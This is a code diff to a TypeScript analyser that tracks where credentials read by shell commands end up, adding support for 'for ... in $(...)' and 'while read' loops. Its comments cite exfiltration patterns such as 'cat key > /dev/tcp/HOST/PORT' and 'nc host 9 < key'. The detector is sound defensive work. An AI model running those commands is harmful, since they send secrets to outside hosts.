@@ -56,7 +56,8 @@ function downThePipe(readings: readonly Reading[], from: number, tell: Tell): re
     // Nobody reads the pipe: the reader knew what the rest of it would say.
     if (command.input.kind === 'none') return intoWords(readings, from, tell);
     if (sendsInput(command) || !handsOn(command) || command.output !== 'piped') {
-      return secrets.flatMap((secret) => ended(secret, command, tell));
+      const sent = secrets.flatMap((secret) => ended(secret, command, tell));
+      return [...sent, ...intoRead(secrets, at, readings, tell)];
     }
   }
   return [];
@@ -110,7 +111,9 @@ function variableAt(text: string, at: number): string | null {
   const before = text.slice(Math.max(0, at - 300), at);
   const posix = /([A-Za-z_]\w*)=["']?(?:\$\(|`)[^`)]*$/.exec(before);
   const other = /\$([A-Za-z_]\w*)\s*=\s*[^;\n|]*$/.exec(before);
-  return posix?.[1] ?? other?.[1] ?? null;
+  // `for part in $(xxd -p key)`
+  const turn = /\bfor\s+([A-Za-z_]\w*)\s+in\s+["']?(?:\$\(|`)[^`;]*$/.exec(before);
+  return posix?.[1] ?? turn?.[1] ?? other?.[1] ?? null;
 }
 
 /** Through a variable into a word that is sent or printed further on. */
@@ -119,20 +122,41 @@ function intoVariable(readings: readonly Reading[], from: number, tell: Tell): r
   if (reading === undefined) return [];
   const { text } = tell(reading.command);
   const variable = variableAt(text, reading.command.span.start);
-  if (variable === null) return [];
+  return variable === null ? [] : throughVariable(variable, reading.secrets, readings.slice(from + 1), tell);
+}
+
+function throughVariable(
+  variable: string,
+  secrets: readonly string[],
+  after: readonly Reading[],
+  tell: Tell,
+): readonly Flow[] {
   const isMeant = ({ raw }: Command['args'][number]): boolean =>
     new Set(raw.match(/(?<=\$\{?)[A-Za-z_]\w*/g) ?? []).has(variable);
-  return readings.slice(from + 1).flatMap(({ command }) => {
+  return after.flatMap(({ command }) => {
     const context = tell(command);
     const isSent = sentWords(command).some(isMeant);
     const isShown = repeatsWords(command) && command.output === 'shown' && command.args.some(isMeant);
     if (!isSent && !isShown) return [];
-    return reading.secrets.map((name) => {
+    return secrets.map((name) => {
       const read = { name, type: 'credential', thing: `the credentials in ${name}`, at: null };
       const sent = isSent ? secretSent(name, destination(command), command, context) : null;
       return { command, observation: sent ?? secretRead(read, command, context) };
     });
   });
+}
+
+/** The variables that `read` fills. */
+function filledBy({ args }: Command): readonly string[] {
+  const names = args.map(({ value }) => value).filter((value) => /^[A-Za-z_]\w*$/.test(value));
+  return names.length === 0 ? ['REPLY'] : names;
+}
+
+/** `… | while read line; do …`, `while read line; do …; done < key`: what the body does with the lines. */
+function intoRead(secrets: readonly string[], at: number, readings: readonly Reading[], tell: Tell): readonly Flow[] {
+  const command = readings[at]?.command;
+  if (command?.program !== 'read') return [];
+  return filledBy(command).flatMap((name) => throughVariable(name, secrets, readings.slice(at + 1), tell));
 }
 
 /** `cat key > /dev/tcp/HOST/PORT` */
@@ -144,13 +168,20 @@ function intoNetwork(command: Command, secrets: readonly string[], tell: Tell): 
 }
 
 /** `nc host 9 < key`: the input itself is a credential. */
-function fromInput(command: Command, tell: Tell): readonly Flow[] {
-  const { input } = command;
-  if (input.kind !== 'file' || !sendsInput(command)) return [];
+function fromInput(at: number, readings: readonly Reading[], tell: Tell): readonly Flow[] {
+  const command = readings[at]?.command;
+  if (command?.input.kind !== 'file' || !(command.program === 'read' || sendsInput(command))) return [];
   const context = tell(command);
   // A redirection opens the file here, whichever machine the program runs on.
-  const here = { ...command, host: null };
-  return credentialsAmong([input.path], here, context).map((word) => ({
+  const found = credentialsAmong([command.input.path], { ...command, host: null }, context);
+  if (command.program === 'read')
+    return intoRead(
+      found.map(({ value }) => value),
+      at,
+      readings,
+      tell,
+    );
+  return found.map((word) => ({
     command,
     observation: secretSent(word.value, destination(command), command, context),
   }));
@@ -159,7 +190,7 @@ function fromInput(command: Command, tell: Tell): readonly Flow[] {
 /** Where the credentials that a script's commands read end up, inside the same script. */
 export function secretFlow(readings: readonly Reading[], tell: Tell): readonly Flow[] {
   return readings.flatMap(({ command, secrets }, index) => {
-    const input = fromInput(command, tell);
+    const input = fromInput(index, readings, tell);
     if (secrets.length === 0) return input;
     switch (command.output) {
       case 'piped':
